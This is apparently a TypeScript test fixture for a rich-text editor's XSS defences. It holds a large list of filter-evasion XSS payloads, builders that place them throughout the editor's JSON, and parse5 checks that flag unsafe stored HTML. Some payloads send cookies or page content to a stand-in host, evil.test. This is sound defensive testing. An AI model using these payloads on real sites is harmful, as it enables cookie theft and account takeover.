/**
 * Hostile input for rich text: each payload is tried as text, as a link's href, as an image's src,
 * as a mention's label and id, inside table cells and headings, and as raw attributes of the
 * editor's JSON (tests/integration/rich-text-xss.test.ts, tests/e2e/xss.spec.ts). Whatever the
 * server keeps must render without running anything. Collected from the usual filter-evasion
 * lists, plus variants for the editor's schema.
 */

const SCRIPT_TAGS = [
  "<script>alert(1)</script>",
  "<SCRIPT>alert(1)</SCRIPT>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script src=//evil.test/x.js></script>",
  "<script src=https://evil.test/x.js></script>",
  "<script/src=data:,alert(1)></script>",
  "<script>alert(String.fromCharCode(88,83,83))</script>",
  "<<script>alert(1);//<</script>",
  '<script\x20type="text/javascript">alert(1)</script>',
  "<script\x0dtype=text/javascript>alert(1)</script>",
  "<script\x0atype=text/javascript>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "</script><script>alert(1)</script>",
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  "--><script>alert(1)</script>",
  "]]><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "<script>document.location='https://evil.test/?c='+document.cookie</script>",
  "<script>fetch('/console').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.test',t))</script>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  "<script type=module>import('https://evil.test/x.js')</script>",
];

const EVENT_HANDLERS = [
  "<img src=x onerror=alert(1)>",
  '<img src=x onerror="alert(1)">',
  "<img src=\"x\" onerror='alert(1)'>",
  "<IMG SRC=x ONERROR=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  "<img src=x onerror=alert`1`>",
  "<img src onerror=alert(1)>",
  "<img src=x:x onerror=javascript:alert(1)>",
  "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
  '<img src=x onerror="&#x61;lert(1)">',
  "<img src=x onerror\x0b=alert(1)>",
  "<img src=x onerror\x00=alert(1)>",
  "<img src=x oNeRrOr=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<body onload=alert(1)>",
  "<body onpageshow=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<textarea autofocus onfocus=alert(1)>",
  "<keygen autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<audio src=x onerror=alert(1)>",
  "<video src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<div onmouseover=alert(1)>hover me</div>",
  "<p onclick=alert(1)>click</p>",
  "<a onmouseover=alert(1)>link</a>",
  "<span onpointerenter=alert(1)>x</span>",
  '<div style="width:100%;height:100%" onmousemove=alert(1)>',
  "<iframe onload=alert(1)>",
  "<object onerror=alert(1)>",
  "<form onsubmit=alert(1)><button>go</button></form>",
  "<button onfocus=alert(1) autofocus>",
  "<table background=javascript:alert(1) onmouseover=alert(1)>",
  "<td onmouseover=alert(1)>cell</td>",
  "<th onclick=alert(1)>head</th>",
  "<h1 onclick=alert(1)>heading</h1>",
  "<li onclick=alert(1)>item</li>",
  "<label onclick=alert(1)><input type=checkbox></label>",
  "<input type=checkbox onchange=alert(1) checked>",
  "<input type=image src=x onerror=alert(1)>",
  "<input type=text value=x onfocus=alert(1) autofocus>",
  "<animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set onbegin=alert(1) attributename=x to=1>",
  "<x onclick=alert(1)>custom</x>",
  "<img src=x onerror=alert(1)//",
  '<img src="x"onerror="alert(1)">',
];

const HOSTILE_URLS = [
  "javascript:alert(1)",
  "JavaScript:alert(1)",
  "JAVASCRIPT:alert(1)",
  " javascript:alert(1)",
  "\tjavascript:alert(1)",
  "\njavascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "java\rscript:alert(1)",
  "java\x00script:alert(1)",
  "\x01javascript:alert(1)",
  "javascript\t:alert(1)",
  "javascript&colon;alert(1)",
  "javascript&#58;alert(1)",
  "javascript&#x3A;alert(1)",
  "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
  "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
  "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
  "javascript%3Aalert(1)",
  "%6A%61%76%61%73%63%72%69%70%74%3Aalert(1)",
  "javascript://%0Aalert(1)",
  "javascript://comment%0aalert(1)",
  "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
  "jav&#x09;ascript:alert(1)",
  "jav&#x0A;ascript:alert(1)",
  "jav&#x0D;ascript:alert(1)",
  "javascript:void(0)",
  "javascript:eval(atob('YWxlcnQoMSk='))",
  "javascript:fetch('//evil.test/'+document.cookie)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "DATA:text/html,<script>alert(1)</script>",
  " data:text/html,<script>alert(1)</script>",
  "data:image/svg+xml,<svg onload=alert(1)>",
  "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "data:,alert(1)",
  "data:application/javascript,alert(1)",
  "vbscript:msgbox(1)",
  "VBScript:msgbox(1)",
  " vbscript:msgbox(1)",
  "livescript:alert(1)",
  "mocha:alert(1)",
  "file:///etc/passwd",
  "blob:https://evil.test/0000",
  "filesystem:https://evil.test/temporary/x",
  "ftp://evil.test/x",
  "about:blank",
  "chrome://settings",
  "intent://evil.test#Intent;scheme=javascript;end",
  "//evil.test/x.js",
  "\\\\evil.test\\x",
  "/\\evil.test/x",
  'https://evil.test/"><script>alert(1)</script>',
  "https://evil.test/' onerror='alert(1)",
  'https://evil.test/" onmouseover="alert(1)',
  'https://evil.test/x.png" onerror="alert(1)',
  "https://evil.test/?q=<script>alert(1)</script>",
  "https://user:pass@evil.test/",
  "https://evil.test/x.svg",
  "mailto:a@evil.test?body=<script>alert(1)</script>",
  'mailto:"><script>alert(1)</script>',
  "http://evil.test/%0d%0aSet-Cookie:x=y",
  "https://xn--80ak6aa92e.com/",
  "https://evil.test/" + "a".repeat(5000),
];

const SVG_MATH_FRAMES = [
  "<svg><script>alert(1)</script></svg>",
  "<svg><script href=data:,alert(1) />",
  "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
  "<svg><a href=javascript:alert(1)><rect width=100 height=100 /></a></svg>",
  "<svg><use href=data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x></use></svg>",
  "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
  "<math href=javascript:alert(1)>x</math>",
  "<math><mi xlink:href=data:x,<script>alert(1)</script>>",
  "<iframe src=javascript:alert(1)>",
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<iframe src="data:text/html,<script>alert(1)</script>">',
  "<frameset><frame src=javascript:alert(1)>",
  "<object data=javascript:alert(1)>",
  '<object data="data:text/html,<script>alert(1)</script>">',
  "<embed src=javascript:alert(1)>",
  '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
  "<applet code=javascript:alert(1)>",
  "<base href=javascript:alert(1)//>",
  "<base href=https://evil.test/>",
  "<link rel=import href=https://evil.test/x.html>",
  "<link rel=stylesheet href=https://evil.test/x.css>",
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<meta http-equiv=Content-Security-Policy content="script-src *">',
  "<form action=javascript:alert(1)><input type=submit>",
  "<button formaction=javascript:alert(1)>go</button>",
  "<isindex action=javascript:alert(1) type=image>",
  "<a href=javascript:alert(1)>click</a>",
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  "<a href=data:text/html,<script>alert(1)</script>>click</a>",
  "<area href=javascript:alert(1)>",
  "<img src=javascript:alert(1)>",
  "<img dynsrc=javascript:alert(1)>",
  "<img lowsrc=javascript:alert(1)>",
  '<img srcset="javascript:alert(1) 1x">',
  "<picture><source srcset=javascript:alert(1)><img></picture>",
  "<video poster=javascript:alert(1)>",
  "<xss:script xmlns:xss=http://www.w3.org/1999/xhtml>alert(1)</xss:script>",
  "<portal src=https://evil.test>",
  '<a href="https://evil.test" target=_blank>tabnab</a>',
  "<a href=https://evil.test ping=https://evil.test/track>ping</a>",
  "<img src=https://evil.test/x.png referrerpolicy=unsafe-url>",
];

const STYLE_TRICKS = [
  "<style>body{background:url(javascript:alert(1))}</style>",
  "<style>@import 'https://evil.test/x.css';</style>",
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<div style="-moz-binding:url(https://evil.test/x.xml#xss)">x</div>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">overlay</p>',
  "<span style=\"color:red;background-image:url('https://evil.test/track.png')\">x</span>",
  '<img style="xss:expr/*XSS*/ession(alert(1))">',
  "<link rel=stylesheet href=javascript:alert(1)>",
  '<div class="fixed inset-0 z-50 bg-red-600">fake dialog</div>',
  '<span class="mention" data-id="vendorUser:someone">@CEO</span>',
];

const ENTITY_TRICKS = [
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "<script >alert(1)</script >",
  "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  "＜script＞alert(1)＜/script＞",
  "<scrіpt>alert(1)</scrіpt>",
  "\u202e<script>alert(1)</script>",
  "<!--<img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<?xml version="1.0"?><script>alert(1)</script>',
  "<!DOCTYPE html><script>alert(1)</script>",
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="&#0106;avascript:alert(1)">x</a>',
  "<div>&lt;img src=x onerror=alert(1)&gt;</div>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "#{alert(1)}",
  "<%= alert(1) %>",
  "{{7*7}}",
  "'';!--\"<XSS>=&{()}",
  '"><img src=x onerror=alert(1)>',
  "'\"><svg/onload=alert(1)>",
  '" autofocus onfocus="alert(1)',
  "' autofocus onfocus='alert(1)",
  '" style="background:url(javascript:alert(1))',
  "</p><script>alert(1)</script><p>",
  "</li></ul><script>alert(1)</script>",
  "</td></tr></table><script>alert(1)</script>",
  "</span><img src=x onerror=alert(1)>",
  "\u0000<script>alert(1)</script>",
  "<script>\u2028alert(1)</script>",
  "<img src=x onerror=alert(1)\u2029>",
  "\uFEFF<script>alert(1)</script>",
  '<a href="\u0001javascript:alert(1)">x</a>',
  "x".repeat(20_000),
  "<b>" + "<i>".repeat(2000) + "deep" + "</i>".repeat(2000) + "</b>",
];

export const XSS_PAYLOADS: readonly string[] = [
  ...SCRIPT_TAGS,
  ...EVENT_HANDLERS,
  ...HOSTILE_URLS,
  ...SVG_MATH_FRAMES,
  ...STYLE_TRICKS,
  ...ENTITY_TRICKS,
];

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

const text = (value: string): Json => ({ type: "text", text: value });
const paragraph = (...content: Json[]): Json => ({ type: "paragraph", content });

/**
 * One document with the payload in every place the editor's schema accepts whatever it holds (text,
 * a mention's label and id, a heading, a table cell, a task item, a code block, an image's alt,
 * unknown attributes), so that one request covers them all; links and images are tried alone
 * (hostileDocuments), since an unsafe address refuses the whole document.
 */
export function combinedHostileDocument(payload: string): Json {
  const ok = payload.length > 0 ? payload : " ";
  const cell = (type: string) => ({ type, attrs: { colspan: 1, rowspan: 1, colwidth: null }, content: [paragraph(text(ok))] });
  return {
    type: "doc",
    content: [
      {
        type: "paragraph",
        attrs: { style: payload, onclick: payload, class: payload },
        content: [
          text(ok),
          { type: "mention", attrs: { id: "vendorUser:nobody", label: payload } },
          { type: "mention", attrs: { id: payload, label: payload } },
        ],
      },
      {
        type: "heading",
        attrs: { level: 2 },
        content: [{ type: "text", text: ok, marks: [{ type: "bold", attrs: { onmouseover: payload } }, { type: "italic" }] }],
      },
      {
        type: "table",
        content: [
          { type: "tableRow", content: [cell("tableHeader")] },
          { type: "tableRow", content: [cell("tableCell")] },
        ],
      },
      { type: "taskList", content: [{ type: "taskItem", attrs: { checked: true }, content: [paragraph(text(ok))] }] },
      { type: "codeBlock", attrs: { language: null }, content: [text(ok)] },
      { type: "blockquote", content: [paragraph({ type: "text", text: ok, marks: [{ type: "code" }] })] },
      { type: "image", attrs: { src: "https://images.example.test/a.png", alt: payload, title: payload } },
    ],
  };
}

/**
 * Documents that carry a payload somewhere the editor's JSON allows (or should not allow) it:
 * text, marks, node attributes, unknown node types and attributes, prototype-pollution keys.
 * Labelled so that a failure names the place.
 */
export function hostileDocuments(payload: string): Array<[place: string, doc: Json]> {
  const doc = (...content: Json[]): Json => ({ type: "doc", content });
  const ok = payload.length > 0 ? payload : " ";
  return [
    ["text", doc(paragraph(text(ok)))],
    ["link href", doc(paragraph({ type: "text", text: "link", marks: [{ type: "link", attrs: { href: payload } }] }))],
    [
      "link href + target/rel/class",
      doc(
        paragraph({
          type: "text",
          text: "link",
          marks: [{ type: "link", attrs: { href: payload, target: payload, rel: payload, class: payload } }],
        }),
      ),
    ],
    ["image src", doc({ type: "image", attrs: { src: payload, alt: payload, title: payload } })],
    ["image alt and title", doc({ type: "image", attrs: { src: "https://images.example.test/a.png", alt: payload, title: payload } })],
    ["mention label", doc(paragraph({ type: "mention", attrs: { id: "vendorUser:nobody", label: payload } }))],
    ["mention id", doc(paragraph({ type: "mention", attrs: { id: payload, label: "Someone" } }))],
    ["heading", doc({ type: "heading", attrs: { level: 1 }, content: [text(ok)] })],
    ["heading level", doc({ type: "heading", attrs: { level: payload }, content: [text("x")] })],
    [
      "table cell",
      doc({
        type: "table",
        content: [
          {
            type: "tableRow",
            content: [{ type: "tableHeader", attrs: { colspan: 1, rowspan: 1, colwidth: null }, content: [paragraph(text(ok))] }],
          },
          {
            type: "tableRow",
            content: [{ type: "tableCell", attrs: { colspan: payload, rowspan: 1, colwidth: [payload] }, content: [paragraph(text(ok))] }],
          },
        ],
      }),
    ],
    ["task item", doc({ type: "taskList", content: [{ type: "taskItem", attrs: { checked: payload }, content: [paragraph(text(ok))] }] })],
    ["code block language", doc({ type: "codeBlock", attrs: { language: payload }, content: [text(ok)] })],
    [
      "ordered list start",
      doc({
        type: "orderedList",
        attrs: { start: payload, type: payload },
        content: [{ type: "listItem", content: [paragraph(text(ok))] }],
      }),
    ],
    ["unknown node", doc({ type: "script", content: [text(ok)] }, { type: "html", attrs: { html: payload } })],
    [
      "unknown mark",
      doc(
        paragraph({
          type: "text",
          text: "x",
          marks: [
            { type: "script", attrs: { src: payload } },
            { type: "textStyle", attrs: { style: payload } },
          ],
        }),
      ),
    ],
    [
      "unknown attributes",
      doc({ type: "paragraph", attrs: { style: payload, onclick: payload, class: payload, id: payload }, content: [text("x")] }),
    ],
    [
      "raw HTML attributes on text",
      doc(paragraph({ type: "text", text: "x", attrs: { onclick: payload }, marks: [{ type: "bold", attrs: { onmouseover: payload } }] })),
    ],
    [
      "prototype pollution",
      JSON.parse(
        `{"type":"doc","__proto__":{"polluted":${JSON.stringify(payload)}},"constructor":{"prototype":{"polluted":true}},"content":[{"type":"paragraph","__proto__":{"type":"script"},"content":[{"type":"text","text":${JSON.stringify(ok)}}]}]}`,
      ) as Json,
    ],
  ];
}

// ---- checking HTML the way a browser reads it ------------------------------------------------

type Parse5Node = {
  nodeName: string;
  tagName?: string;
  attrs?: Array<{ name: string; value: string }>;
  childNodes?: Parse5Node[];
  content?: Parse5Node;
};

/** What stored rich text may contain: the server's sanitizer allowlist (app/rich-text/rich-text.server.ts). */
const STORED_TAGS = new Set([
  "p",
  "br",
  "h1",
  "h2",
  "h3",
  "strong",
  "em",
  "u",
  "s",
  "code",
  "pre",
  "blockquote",
  "hr",
  "ul",
  "ol",
  "li",
  "a",
  "img",
  "table",
  "thead",
  "tbody",
  "tr",
  "th",
  "td",
  "colgroup",
  "col",
  "span",
  "label",
  "input",
  "div",
]);
const URL_ATTRIBUTES = new Set([
  "href",
  "src",
  "xlink:href",
  "action",
  "formaction",
  "srcset",
  "poster",
  "data",
  "background",
  "ping",
  "srcdoc",
  "dynsrc",
  "lowsrc",
]);
// Browsers drop ASCII tabs and newlines anywhere in a URL and leading control characters and spaces.
const normaliseUrl = (value: string) =>
  value
    .replace(/[\t\n\r]/g, "")
    .replace(/^[\p{Cc} ]+/u, "")
    .toLowerCase();
const DANGEROUS_SCHEME = /^(javascript|vbscript|data|livescript|mocha):/;

function* elements(node: Parse5Node): Generator<Parse5Node> {
  if (node.tagName) yield node;
  for (const child of node.childNodes ?? []) yield* elements(child);
  if (node.content) yield* elements(node.content);
}

function attributeProblems(element: Parse5Node): string[] {
  const problems: string[] = [];
  for (const { name, value } of element.attrs ?? []) {
    if (name.toLowerCase().startsWith("on")) problems.push(`<${element.tagName} ${name}=…>`);
    if (URL_ATTRIBUTES.has(name.toLowerCase()) && DANGEROUS_SCHEME.test(normaliseUrl(value)))
      problems.push(`<${element.tagName} ${name}="${value.slice(0, 60)}">`);
  }
  return problems;
}

/**
 * Why stored rich-text HTML is unsafe, if it is: any element outside the allowlist (script, svg,
 * iframe…), any event-handler or style attribute, any link or image not on http(s), mailto or a
 * path of this site, any checkbox that is a live control. Empty when it is safe.
 */
export async function storedHtmlProblems(html: string): Promise<string[]> {
  const { parseFragment } = await import("parse5");
  const problems: string[] = [];
  for (const element of elements(parseFragment(html) as unknown as Parse5Node)) {
    const tag = element.tagName!;
    if (!STORED_TAGS.has(tag)) problems.push(`<${tag}>`);
    problems.push(...attributeProblems(element));
    for (const { name, value } of element.attrs ?? []) {
      if (name === "style") problems.push(`<${tag} style>`);
      if ((name === "href" || name === "src") && !/^(https?:\/\/|mailto:|\/(?![/\\]))/i.test(value))
        problems.push(`<${tag} ${name}="${value.slice(0, 60)}">`);
    }
    if (tag === "input") {
      const attributes = new Map((element.attrs ?? []).map(({ name, value }) => [name, value]));
      if (attributes.get("type") !== "checkbox" || !attributes.has("disabled")) problems.push("<input> that is not a disabled checkbox");
    }
  }
  return problems;
}

/**
 * Why a whole page is unsafe, if it is: a script without the page's CSP nonce, an event-handler
 * attribute, or a javascript:/data:/vbscript: URL anywhere. Empty when it is safe.
 */
export async function pageHtmlProblems(html: string): Promise<string[]> {
  const { parse } = await import("parse5");
  const problems: string[] = [];
  const all = [...elements(parse(html) as unknown as Parse5Node)];
  const nonces = new Set(
    all
      .filter((element) => element.tagName === "script")
      .map((element) => element.attrs?.find((attribute) => attribute.name === "nonce")?.value),
  );
  if (nonces.has(undefined) || nonces.size > 1) problems.push(`scripts with nonces ${[...nonces].join(", ")}`);
  for (const element of all) {
    problems.push(...attributeProblems(element));
    if (["iframe", "object", "embed", "frame", "base", "meta"].includes(element.tagName!) && !isPageMeta(element))
      problems.push(`<${element.tagName}>`);
  }
  return problems;
}

// The page's own <meta charset> and <meta name=viewport> are fine; a refresh or CSP meta is not.
const isPageMeta = (element: Parse5Node) =>
  element.tagName === "meta" && (element.attrs ?? []).every((attribute) => ["charset", "name", "content"].includes(attribute.name));
